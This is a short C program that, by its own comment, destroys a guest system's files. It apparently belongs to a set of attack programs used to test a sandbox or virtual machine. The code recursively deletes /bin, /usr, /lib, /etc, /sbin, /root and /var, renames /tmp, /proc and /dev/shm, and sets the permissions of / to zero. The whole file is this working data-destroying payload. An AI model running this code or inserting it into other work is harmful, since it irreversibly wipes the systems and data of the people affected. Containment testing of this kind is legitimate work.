// SPDX-License-Identifier: MIT
/* Destroys the guest's own files: programs, libraries, folders that everything needs. */
#include "attack.h"

#include <ftw.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

static int remove_one(const char *path, const struct stat *st, int type, struct FTW *at)
{
	(void)st, (void)type, (void)at;
	remove(path);
	return 0;
}

int main(void)
{
	static const char *const folders[] = { "/bin", "/usr", "/lib", "/etc", "/lib64", "/sbin", "/root", "/var" };

	for (size_t i = 0; i < sizeof(folders) / sizeof(folders[0]); i++)
		nftw(folders[i], remove_one, 16, FTW_DEPTH | FTW_PHYS);
	rename("/tmp", "/elsewhere");
	rename("/proc", "/elsewhere");
	rename("/dev/shm", "/dev/elsewhere");
	chmod("/tmp", 0);
	chmod("/dev/shm", 0);
	chmod("/", 0);
	return 0;
}
